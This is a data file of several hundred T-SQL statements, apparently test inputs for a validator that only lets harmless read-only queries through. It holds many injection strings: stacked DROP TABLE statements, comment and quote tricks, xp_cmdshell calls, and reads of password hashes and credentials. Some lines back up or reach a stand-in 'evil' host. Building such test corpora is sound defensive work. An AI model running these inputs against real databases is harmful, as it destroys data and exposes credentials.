-- A second statement, with and without a semicolon
SELECT 1; SELECT 2
SELECT id FROM customers; DROP TABLE customers
SELECT id FROM customers;;DROP TABLE customers
SELECT id FROM customers DROP TABLE customers
SELECT id FROM customers c DROP TABLE customers
SELECT id FROM customers SHUTDOWN
SELECT id FROM customers SHUTDOWN WITH NOWAIT
SELECT id FROM customers EXEC xp_cmdshell 'whoami'
SELECT id FROM customers EXECUTE ('DROP TABLE customers')
SELECT id FROM customers AS x KILL 53
SELECT id FROM customers CHECKPOINT
SELECT id FROM customers RECONFIGURE
SELECT id FROM customers REVERT
SELECT id FROM customers COMMIT
SELECT id FROM customers ROLLBACK
SELECT id FROM customers BEGIN TRAN
SELECT id FROM customers TRUNCATE TABLE customers
SELECT id FROM customers DELETE FROM customers
SELECT id FROM customers DELETE customers
SELECT id FROM customers UPDATE customers SET name = 'x'
SELECT id FROM customers INSERT INTO notes (id) VALUES (1)
SELECT id FROM customers MERGE notes AS n USING orders o ON n.id = o.id WHEN MATCHED THEN DELETE
SELECT id FROM customers WAITFOR DELAY '0:0:30'
SELECT id FROM customers WAITFOR TIME '23:00'
SELECT id FROM customers USE master
SELECT id FROM customers SET ROWCOUNT 1
SELECT id FROM customers GRANT CONTROL TO mallory
SELECT id FROM customers REVOKE SELECT ON orders FROM alice
SELECT id FROM customers DENY SELECT ON orders TO alice
SELECT id FROM customers BACKUP DATABASE shop TO DISK = '\\evil\x.bak'
SELECT id FROM customers RESTORE DATABASE shop FROM DISK = 'x.bak'
SELECT id FROM customers DBCC SHRINKDATABASE (shop)
SELECT id FROM customers CREATE TABLE t (a int)
SELECT id FROM customers ALTER TABLE customers DROP COLUMN email
SELECT id FROM customers ALTER LOGIN sa WITH PASSWORD = 'x'
SELECT id FROM customers DECLARE @x int
SELECT id FROM customers PRINT 'x'
SELECT id FROM customers RAISERROR ('x', 16, 1)
SELECT id FROM customers THROW 50000, 'x', 1
SELECT id FROM customers OPEN c
SELECT id FROM customers FETCH NEXT FROM c
SELECT id FROM customers DEALLOCATE c
SELECT id FROM customers IF 1 = 1 DROP TABLE notes
SELECT id FROM customers WHILE 1 = 1 SELECT 1
SELECT id FROM customers GOTO x
SELECT id FROM customers RETURN
SELECT id FROM customers⏎GO⏎DROP TABLE customers
SELECT id FROM customers GO
SELECT id FROM customers BULK INSERT notes FROM 'c:\x'
SELECT id FROM customers RECEIVE TOP (1) * FROM q
SELECT id FROM customers SEND ON CONVERSATION @h (N'x')
SELECT id FROM customers SELECT email FROM customers
SELECT 1 SELECT 2
SELECT 1 AS x SELECT 2
SELECT id FROM customers WHERE id = 1 DROP TABLE notes
SELECT id FROM customers ORDER BY id DROP TABLE notes
SELECT id FROM customers OPTION (RECOMPILE) DROP TABLE notes
SELECT id FROM customers FOR JSON PATH DROP TABLE notes
SELECT id FROM customers WITH (NOLOCK) DROP TABLE notes
SELECT id FROM customers (NOLOCK) DROP TABLE notes
SELECT id FROM customers ENABLE TRIGGER x ON customers
SELECT id FROM customers DISABLE TRIGGER ALL ON DATABASE
-- Comments and quotes that end elsewhere than they seem to
SELECT 1 -- x⏎; DROP TABLE customers
SELECT 1 /* /* */ DROP TABLE customers -- */ */
SELECT 1 /* */ DROP TABLE customers
SELECT '''; DROP TABLE customers --
SELECT 'a'''';' ; DROP TABLE customers --'
SELECT [a]]; DROP TABLE customers --] FROM t; DROP TABLE notes
SELECT "a"; DROP TABLE customers --"
SELECT /* unclosed
SELECT 'unclosed
SELECT [unclosed FROM customers
SELECT 1; -- DROP⏎DROP TABLE customers
SELECT id FROM customers‌ DROP TABLE customers
SELECT id FROM customers; EXEC sp_executesql N'DROP TABLE customers'
-- Files, programs, other servers
SELECT * FROM OPENROWSET('SQLNCLI', 'Server=evil;Trusted_Connection=yes;', 'SELECT 1')
SELECT * FROM OPENROWSET(BULK 'c:\windows\win.ini', SINGLE_CLOB) AS x
SELECT BulkColumn FROM OPENROWSET(BULK '\\evil\share\x', SINGLE_BLOB) AS x
SELECT * FROM OPENQUERY(other, 'DROP TABLE customers')
SELECT * FROM OPENDATASOURCE('SQLNCLI', 'Data Source=evil').db.dbo.t
SELECT * FROM OPENXML(@h, '/x')
SELECT * FROM other.shop.dbo.customers
SELECT * FROM [other].[shop].[dbo].[customers]
SELECT * FROM sys.dm_os_file_exists('c:\x')
SELECT * FROM sys.dm_os_enumerate_filesystem('c:\', '*')
SELECT * FROM fn_trace_gettable('c:\x.trc', DEFAULT)
SELECT * FROM sys.fn_get_audit_file('c:\*', NULL, NULL)
SELECT * FROM fn_xe_file_target_read_file('c:\x*.xel', NULL, NULL, NULL)
SELECT * FROM fn_dblog(NULL, NULL)
SELECT * FROM fn_dump_dblog(NULL, NULL, 'DISK', 1, 'x.bak')
SELECT * FROM dbo.runs_anything(1)
SELECT * FROM customers CROSS APPLY dbo.runs_anything(id) x
SELECT * FROM CONTAINSTABLE(notes, body, 'x')
SELECT * FROM PREDICT(MODEL = @m, DATA = customers AS d) WITH (x float)
-- Secrets of the server
SELECT * FROM sys.sql_logins
SELECT name, password_hash FROM sys.sql_logins
SELECT * FROM master.sys.server_principals
SELECT * FROM master..sysxlogins
SELECT * FROM master.dbo.syslogins
SELECT * FROM sys.syslogins
SELECT * FROM sysusers
SELECT * FROM dbo.sysusers
SELECT * FROM sys.database_principals
SELECT * FROM sys.credentials
SELECT * FROM sys.database_scoped_credentials
SELECT * FROM sys.symmetric_keys
SELECT * FROM sys.certificates
SELECT * FROM sys.configurations
SELECT * FROM sys.linked_logins
SELECT * FROM sys.servers
SELECT * FROM sys.dm_exec_sessions
SELECT * FROM sys.dm_exec_requests
SELECT * FROM sys.dm_exec_query_stats
SELECT t.text FROM sys.dm_exec_query_stats s CROSS APPLY sys.dm_exec_sql_text(s.sql_handle) t
SELECT * FROM sys.dm_exec_input_buffer(51, 0)
SELECT * FROM sys.query_store_query_text
SELECT * FROM sys.sql_modules
SELECT * FROM sys.syscomments
SELECT * FROM syscomments
SELECT * FROM sys.dm_db_stats_histogram(1, 2)
SELECT * FROM sys.dm_db_page_info(1, 2, 3, 'DETAILED')
SELECT * FROM master..sysprocesses
SELECT * FROM msdb.dbo.backupset
SELECT * FROM msdb.dbo.sysjobsteps
SELECT * FROM [master].[sys].[sql_logins]
SELECT * FROM "sys"."sql_logins"
SELECT * FROM SYS.SQL_LOGINS
SELECT c.name, (SELECT TOP 1 password_hash FROM sys.sql_logins) AS x FROM customers c
SELECT c.name FROM customers c WHERE EXISTS (SELECT 1 FROM sys.sql_logins WHERE name = 'sa')
WITH x AS (SELECT * FROM sys.sql_logins) SELECT * FROM x
SELECT * FROM customers c CROSS APPLY (SELECT * FROM sys.sql_logins) x
SELECT * FROM sys.sql_logins FOR JSON PATH
SELECT * FROM (SELECT name, type FROM sys.sql_logins) s PIVOT (COUNT(name) FOR type IN ([S])) p
SELECT * FROM sys.sql_logins WITH (NOLOCK)
SELECT * FROM sys.sql_logins (NOLOCK)
SELECT name FROM customers UNION SELECT name FROM sys.sql_logins
SELECT LOGINPROPERTY('sa', 'PasswordHash')
SELECT PWDCOMPARE('secret', 0x0200)
SELECT name FROM customers WHERE PWDCOMPARE('', 0x01) = 1
SELECT DECRYPTBYPASSPHRASE('x', email) FROM customers
SELECT DECRYPTBYKEY(card) FROM customers
SELECT CERTPRIVATEKEY(1, 'x')
SELECT SESSION_CONTEXT(N'token')
SELECT * FROM ##everybody
SELECT * FROM [##everybody]
SELECT * FROM "##everybody"
SELECT * FROM tempdb.dbo.left_over
-- Writes, locks and what only looks like reading
SELECT * INTO copy FROM customers
SELECT id INTO #picked FROM customers
SELECT id INTO [copy] FROM customers WHERE 1 = 0
WITH x AS (SELECT 1 AS a) SELECT a INTO copy FROM x
SELECT NEXT VALUE FOR dbo.numbers
SELECT NEXT VALUE FOR numbers OVER (ORDER BY id) FROM customers
SELECT @x = email FROM customers
SELECT @x
SELECT * FROM @t
SELECT a@@version FROM customers
SELECT * FROM customers WITH (TABLOCKX)
SELECT * FROM customers WITH (UPDLOCK, HOLDLOCK)
SELECT * FROM customers WITH (XLOCK, NOLOCK)
SELECT * FROM customers WITH (TABLOCK)
SELECT * FROM customers WITH (SERIALIZABLE)
SELECT * FROM customers WITH (REPEATABLEREAD)
SELECT * FROM customers (UPDLOCK)
SELECT * FROM customers OPTION (USE PLAN N'<x/>')
SELECT * FROM customers OPTION (TABLE HINT (customers, TABLOCKX))
SELECT id FROM customers FOR BROWSE
SELECT id FROM customers FOR XML EXPLICIT
INSERT INTO customers (id) VALUES (1)
INSERT customers DEFAULT VALUES
INSERT INTO notes EXEC dbo.p
UPDATE customers SET name = 'x'
UPDATE TOP (1) customers SET name = 'x' WHERE id = 1
DELETE FROM customers
DELETE TOP (1) FROM customers WHERE id = 1
WITH x AS (SELECT * FROM customers) DELETE FROM x
WITH x AS (SELECT * FROM customers) UPDATE x SET name = 'y'
MERGE notes AS n USING orders o ON n.id = o.id WHEN MATCHED THEN DELETE;
TRUNCATE TABLE customers
DROP TABLE customers
DROP TABLE IF EXISTS customers
DROP DATABASE shop
ALTER TABLE customers DROP COLUMN email
ALTER DATABASE shop SET SINGLE_USER WITH ROLLBACK IMMEDIATE
ALTER SERVER ROLE sysadmin ADD MEMBER mallory
CREATE LOGIN mallory WITH PASSWORD = 'x'
CREATE TABLE t (a int)
CREATE PROCEDURE p AS DROP TABLE customers
CREATE TRIGGER x ON customers AFTER INSERT AS DELETE FROM notes
CREATE ASSEMBLY x FROM 'c:\x.dll'
EXEC xp_cmdshell 'dir'
EXEC sp_configure 'xp_cmdshell', 1
EXEC sp_OACreate 'WScript.Shell', @x OUT
EXECUTE AS LOGIN = 'sa'
EXEC ('SELECT 1') AT other
sp_who
sp_executesql N'DROP TABLE customers'
xp_dirtree '\\evil\x'
GRANT CONTROL SERVER TO mallory
BACKUP DATABASE shop TO DISK = 'x'
BULK INSERT notes FROM 'c:\x'
DBCC PAGE (1, 1, 1, 3)
KILL 53
SHUTDOWN
USE master
SET IDENTITY_INSERT customers ON
SET CONTEXT_INFO 0x01
DECLARE @x nvarchar(max) = N'DROP TABLE customers' EXEC (@x)
WAITFOR DELAY '0:0:30'
BEGIN TRAN
IF 1 = 1 DROP TABLE customers
BEGIN SELECT 1 END
VALUES (1)
SELEC 1
SELECT * FORM customers
1 OR 1 = 1
'; DROP TABLE customers; --
